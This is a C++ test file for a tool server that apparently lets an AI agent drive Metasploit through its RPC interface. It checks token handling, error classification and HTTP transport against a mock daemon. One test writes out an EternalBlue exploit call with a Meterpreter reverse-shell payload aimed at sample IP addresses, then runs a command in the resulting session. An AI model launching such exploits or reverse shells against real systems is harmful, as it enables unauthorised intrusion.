#include <mutex>

#include "doctest.h"
#include "pentestmcp/mock/fake_msf_daemon.hpp"
#include "pentestmcp/msf/http.hpp"
#include "pentestmcp/msf/rpc.hpp"
#include "pentestmcp/msf/tools.hpp"
#include "support.hpp"

using namespace pentestmcp;
using namespace pentestmcp::msf;
using msgpack::Value;

namespace {

/// Forwards to a daemon and keeps every request it saw.
class TapTransport final : public RpcTransport {
 public:
  explicit TapTransport(std::shared_ptr<mock::FakeMsfDaemon> daemon) : daemon_(std::move(daemon)) {}
  std::string post(std::string_view body) override {
    requests->push_back(msgpack::decode(body).as_array());
    std::string reply = daemon_->handle(body);
    replies->push_back(reply);
    return reply;
  }
  std::shared_ptr<std::vector<msgpack::Array>> requests = std::make_shared<std::vector<msgpack::Array>>();
  std::shared_ptr<std::vector<std::string>> replies = std::make_shared<std::vector<std::string>>();

 private:
  std::shared_ptr<mock::FakeMsfDaemon> daemon_;
};

class ScriptedTransport final : public RpcTransport {
 public:
  std::vector<std::string> replies;
  std::size_t calls = 0;
  std::string post(std::string_view) override {
    if (replies.empty()) throw MsfError(MsfError::Kind::transport, "connection refused");
    std::string r = replies[std::min(calls, replies.size() - 1)];
    ++calls;
    return r;
  }
};

std::string login_ok(const std::string& token) {
  return msgpack::encode(msgpack::make_map({{"result", "success"}, {"token", token}}));
}

}  // namespace

TEST_SUITE("metasploit rpc") {
  TEST_CASE("every call after login carries the token as first parameter") {
    auto daemon = std::make_shared<mock::FakeMsfDaemon>(testsupport::scenario("struts-5638"));
    auto tap = std::make_unique<TapTransport>(daemon);
    auto requests = tap->requests;
    RpcClient client({}, std::move(tap));
    CHECK_FALSE(client.logged_in());
    Value v = client.call("core.version");
    CHECK(client.logged_in());
    CHECK(v.find("version") != nullptr);
    client.call("module.search", {"struts"});
    REQUIRE(requests->size() == 3);
    CHECK((*requests)[0][0].as_string() == "auth.login");
    CHECK((*requests)[0][1].as_string() == "msf");
    const std::string token = *client.token_for_testing();
    CHECK((*requests)[1][0].as_string() == "core.version");
    CHECK((*requests)[1][1].as_string() == token);
    CHECK((*requests)[2][1].as_string() == token);
    CHECK((*requests)[2][2].as_string() == "struts");
  }

  TEST_CASE("an expired token triggers exactly one re-login") {
    auto daemon = std::make_shared<mock::FakeMsfDaemon>(testsupport::scenario("struts-5638"));
    auto tap = std::make_unique<TapTransport>(daemon);
    auto requests = tap->requests;
    RpcClient client({}, std::move(tap));
    client.login();
    std::string first = *client.token_for_testing();
    daemon->expire_tokens();
    Value v = client.call("session.list");
    CHECK(v.is_map());
    std::string second = *client.token_for_testing();
    CHECK(first != second);
    std::vector<std::string> methods;
    for (const auto& r : *requests) methods.push_back(r[0].as_string());
    CHECK(methods == std::vector<std::string>{"auth.login", "session.list", "auth.login", "session.list"});
  }

  TEST_CASE("a daemon that keeps rejecting the token fails after one retry") {
    auto t = std::make_unique<ScriptedTransport>();
    std::string denied = msgpack::encode(mock::daemon_error("Invalid Authentication Token", 401));
    t->replies = {login_ok("TEMPa"), denied, login_ok("TEMPb"), denied};
    auto* raw = t.get();
    RpcClient client({}, std::move(t));
    try {
      client.call("session.list");
      FAIL("expected MsfError");
    } catch (const MsfError& e) {
      CHECK(e.kind() == MsfError::Kind::auth);
      CHECK_FALSE(e.retriable());
      CHECK(std::string(e.what()).find("TEMP") == std::string::npos);
    }
    CHECK(raw->calls == 4);
  }

  TEST_CASE("login failures, daemon errors and garbage replies are classified") {
    {
      auto t = std::make_unique<ScriptedTransport>();
      t->replies = {msgpack::encode(mock::daemon_error("Login Failed", 401))};
      RpcClient client({}, std::move(t));
      CHECK_THROWS_WITH_AS(client.login(), "login failed: Login Failed", MsfError);
    }
    {
      auto t = std::make_unique<ScriptedTransport>();
      t->replies = {login_ok("TEMPx"), msgpack::encode(mock::daemon_error("Invalid Module"))};
      RpcClient client({}, std::move(t));
      try {
        client.call("module.info", {"exploit", "nope"});
        FAIL("expected MsfError");
      } catch (const MsfError& e) {
        CHECK(e.kind() == MsfError::Kind::daemon);
        CHECK(std::string(e.what()) == "module.info: Invalid Module");
      }
    }
    {
      auto t = std::make_unique<ScriptedTransport>();
      t->replies = {login_ok("TEMPx"), "\xc1"};
      RpcClient client({}, std::move(t));
      try {
        client.call("core.version");
        FAIL("expected MsfError");
      } catch (const MsfError& e) {
        CHECK(e.kind() == MsfError::Kind::transport);
        CHECK(e.retriable());
      }
    }
    CHECK(is_auth_error(mock::daemon_error("whatever", 401)));
    CHECK(is_auth_error(mock::daemon_error("Invalid Authentication Token", 500)));
    CHECK_FALSE(is_auth_error(mock::daemon_error("Invalid Module", 500)));
    CHECK_FALSE(is_error_map(msgpack::make_map({{"result", "success"}})));
  }

  TEST_CASE("the session token never leaks into tool output") {
    auto fixture = testsupport::scenario("blue-0144");
    auto daemon = std::make_shared<mock::FakeMsfDaemon>(fixture);
    auto client = std::make_shared<RpcClient>(RpcEndpoint{}, std::make_unique<mock::FakeDaemonTransport>(daemon));
    MsfToolConfig cfg;
    cfg.sleep = [](std::chrono::milliseconds) {};
    MsfTools tools(client, cfg);
    std::vector<mcp::ToolCallResult> results;
    results.push_back(tools.search("ms17_010"));
    results.push_back(tools.info("windows/smb/ms17_010_eternalblue", "exploit"));
    results.push_back(tools.info("windows/smb/missing", "exploit"));
    results.push_back(tools.module_payloads("windows/smb/ms17_010_eternalblue"));
    results.push_back(tools.payload_info("windows/x64/meterpreter/reverse_tcp"));
    results.push_back(tools.exploit("windows/smb/ms17_010_eternalblue", {{"RHOSTS", "10.201.77.154"}},
                                    "windows/x64/meterpreter/reverse_tcp",
                                    {{"LHOST", "10.13.88.195"}, {"LPORT", 4444}}));
    daemon->expire_tokens();
    results.push_back(tools.sessions());
    results.push_back(tools.session_interact(1, "getuid", 1));
    results.push_back(tools.session_interact(99, "getuid", 1));
    const std::string token = *client->token_for_testing();
    CHECK(token.size() >= 32);
    for (const auto& r : results) {
      CHECK(r.text().find(token) == std::string::npos);
      CHECK(r.text().find("TEMP") == std::string::npos);
      if (r.structured) CHECK(r.structured->dump().find("TEMP") == std::string::npos);
    }
  }
}

TEST_SUITE("metasploit rpc over http") {
  TEST_CASE("loopback listener and HTTP transport carry msgpack both ways") {
    auto daemon = std::make_shared<mock::FakeMsfDaemon>(testsupport::scenario("struts-5638"));
    std::mutex mu;
    RpcHttpListener listener([&](std::string_view body) {
      std::lock_guard lock(mu);
      return daemon->handle(body);
    });
    int port = listener.start(0);
    REQUIRE(port > 0);
    RpcEndpoint ep;
    ep.port = port;
    ep.password = "unused";
    RpcClient client(ep, std::make_unique<HttpTransport>(ep, 5));
    Value hits = client.call("module.search", {"CVE-2017-5638"});
    REQUIRE(hits.is_array());
    REQUIRE(hits.as_array().size() == 1);
    CHECK(hits.as_array()[0].get_string("fullname") == "exploit/multi/http/struts2_content_type_ognl");
    daemon->expire_tokens();
    CHECK(client.call("core.version").is_map());
    listener.stop();
  }

  TEST_CASE("unreachable daemon is a retriable transport error") {
    int port = 0;
    {
      RpcHttpListener probe([](std::string_view) { return std::string(); });
      port = probe.start(0);
      probe.stop();
    }
    RpcEndpoint ep;
    ep.port = port;
    HttpTransport transport(ep, 2);
    try {
      transport.post("\x90");
      FAIL("expected MsfError");
    } catch (const MsfError& e) {
      CHECK(e.kind() == MsfError::Kind::transport);
      CHECK(e.retriable());
    }
  }
}
